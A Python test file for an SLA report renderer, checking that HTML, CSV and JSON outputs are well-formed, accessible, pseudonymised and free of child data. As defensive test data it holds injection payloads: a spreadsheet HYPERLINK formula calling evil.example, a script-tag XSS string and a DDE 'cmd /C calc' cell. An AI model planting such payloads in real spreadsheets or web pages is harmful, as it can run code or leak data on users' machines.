"""The rendered SLA report: standalone, well-formed, pseudonymised, safe in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable

import msgspec
import pytest

from gateway.reports import SlaReport, render_csv, render_html, render_json, sla_figures
from gateway.reports.sla_render import CSV_COLUMNS, csv_cell
from tests.unit.reports.test_sla_figures import END, NOW, START, load_clocks

SVG = "{http://www.w3.org/2000/svg}"
HOSTILE_LABEL = '=HYPERLINK("https://evil.example/?x="&A1) <script>alert(1)</script>'


def fixture_report() -> SlaReport:
    return sla_figures(load_clocks(), start=START, end=END, now=NOW)


def hostile_report() -> SlaReport:
    """The fixture with policy-pack text written to attack a spreadsheet and a browser."""
    clocks = load_clocks()
    clocks[0] = msgspec.structs.replace(clocks[0], kind="-2+3", label=HOSTILE_LABEL)
    clocks[4] = msgspec.structs.replace(clocks[4], kind="@SUM(A1:A9)", label="+cmd|' /C calc'!A0")
    return sla_figures(clocks, start=START, end=END, now=NOW)


def parse(document: str) -> ET.Element:
    assert document.startswith("<!DOCTYPE html>\n<html")
    # Our own output, not untrusted input: the strict XML parser is the well-formedness check.
    return ET.fromstring(document)  # noqa: S314


def test_html_is_a_well_formed_standalone_document() -> None:
    root = parse(render_html(fixture_report()))
    assert root.tag == "html"
    assert root.attrib["lang"] == "en-GB"
    assert root.findtext("head/title") == "SLA report, 1 January 2025 to 28 February 2025"
    assert root.find("head/style") is not None
    tags = {element.tag for element in root.iter()}
    assert not tags & {"script", "link", "img", "iframe", "object", "embed", "a"}
    assert not [e for e in root.iter() if "src" in e.attrib or "href" in e.attrib]


def test_html_holds_both_charts_as_labelled_images() -> None:
    root = parse(render_html(fixture_report()))
    charts = list(root.iter(f"{SVG}svg"))
    assert len(charts) == 2
    for chart in charts:
        assert chart.attrib["role"] == "img"
        title, desc = chart.find(f"{SVG}title"), chart.find(f"{SVG}desc")
        assert title is not None
        assert desc is not None
        assert chart.attrib["aria-labelledby"] == f"{title.attrib['id']} {desc.attrib['id']}"
    compliance, trend = charts
    assert len(compliance.findall(f"{SVG}rect")) == 3
    assert "Health: 33.3% (1 of 3)" in (compliance.findtext(f"{SVG}desc") or "")
    # two months x three series, plus three legend keys
    assert len(trend.findall(f"{SVG}rect")) == 9


def test_the_only_url_is_the_svg_namespace() -> None:
    document = render_html(fixture_report())
    assert set(re.findall(r"https?://[^\s\"'<>]*", document)) == {"http://www.w3.org/2000/svg"}
    assert "url(" not in document
    assert "@import" not in document


def test_tables_show_each_agency_and_kind() -> None:
    root = parse(render_html(fixture_report()))
    captions = [t.findtext("caption") for t in root.iter("table")]
    assert captions == [
        "Every clock, by agency",
        "Clocks by the month they started",
        "Educational psychology",
        "Health",
        "Local authority",
        "Clocks met late or overdue, most days late first",
    ]
    la = next(t for t in root.iter("table") if t.findtext("caption") == "Local authority")
    rows = [[cell.text for cell in row] for row in la.iter("tr")]
    assert rows[1] == [
        "Acknowledge a Section 19 request within 5 working days",
        *("4", "2", "1", "0", "0", "1", "4.0", "8.0", "66.7%"),
    ]
    assert rows[-1] == ["All clocks", "6", "3", "1", "1", "0", "1", "6.5", "17.4", "60.0%"]


@pytest.mark.parametrize("render", [render_html, render_csv, render_json])
def test_no_child_data_leaves_in_any_format(render: Callable[[SlaReport], str | bytes]) -> None:
    output = render(fixture_report())
    text = output.decode() if isinstance(output, bytes) else output
    for clock in load_clocks():
        assert clock.case_id not in text
        assert clock.id not in text
    assert "Jamie" not in text  # a pause reason naming the child
    assert "reg. 13(3)(d)" not in text  # pause reasons are free text: none is shown


def test_breaches_are_listed_by_pseudonym() -> None:
    root = parse(render_html(fixture_report()))
    breaches = list(root.iter("table"))[-1]
    first_cells = [row[0].text for row in breaches.iter("tr")][1:]
    assert first_cells == ["0575324e", "2a829940", "1ab42c93", "d8cb5065", "c2f52c5a"]
    top = [cell.text for cell in list(breaches.iter("tr"))[1]]
    assert top[3:] == ["2025-01-10 10:00 UTC", "2025-02-21 10:00 UTC", "not yet met", "17.1"]


def test_html_escapes_policy_pack_text() -> None:
    document = render_html(hostile_report())
    root = parse(document)
    assert "<script>" not in document
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in document
    assert not list(root.iter("script"))
    la = next(t for t in root.iter("table") if t.findtext("caption") == "Local authority")
    assert HOSTILE_LABEL in [row[0].text for row in la.iter("tr")]


def test_csv_has_one_row_per_agency_and_kind_with_every_figure() -> None:
    rows = list(csv.reader(io.StringIO(render_csv(fixture_report()))))
    assert rows[0] == list(CSV_COLUMNS)
    assert [(r[2], r[3]) for r in rows[1:]] == [
        ("educational_psychology", "lincs.ep.advice"),
        ("health", "lincs.health.advice"),
        ("local_authority", "lincs.s19.acknowledge"),
        ("local_authority", "lincs.s19.outcome"),
    ]
    assert rows[2] == [
        "2025-01-01",
        "2025-02-28",
        "health",
        "lincs.health.advice",
        "Health advice for an EHC needs assessment within 6 weeks",
        *("4", "1", "1", "1", "1", "0", "40.5", "47.3", "33.3"),
    ]


def test_csv_defuses_cells_a_spreadsheet_would_run() -> None:
    rows = list(csv.reader(io.StringIO(render_csv(hostile_report()))))
    la = [r for r in rows if r[2] == "local_authority"]
    assert {(r[3], r[4]) for r in la} >= {
        ("'-2+3", "'" + HOSTILE_LABEL),
        ("'@SUM(A1:A9)", "'+cmd|' /C calc'!A0"),
    }
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("safe = text", "safe = text"),
        (None, ""),
        (66.7, "66.7"),
    ],
)
def test_csv_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_json_round_trips() -> None:
    report = fixture_report()
    assert msgspec.json.decode(render_json(report), type=SlaReport) == report


def test_an_empty_period_renders_and_says_so() -> None:
    report = sla_figures([], start=START, end=END, now=NOW)
    document = render_html(report)
    root = parse(document)
    compliance = next(root.iter(f"{SVG}svg"))
    assert compliance.findall(f"{SVG}rect") == []
    assert document.count("No clocks started in this period.") == 3  # chart, desc, tables
    assert "No clock in this period was met late or is overdue." in document
    assert render_csv(report) == ",".join(CSV_COLUMNS) + "\r\n"


def test_rendering_is_deterministic() -> None:
    assert render_html(fixture_report()) == render_html(fixture_report())
    assert render_json(fixture_report()) == render_json(fixture_report())
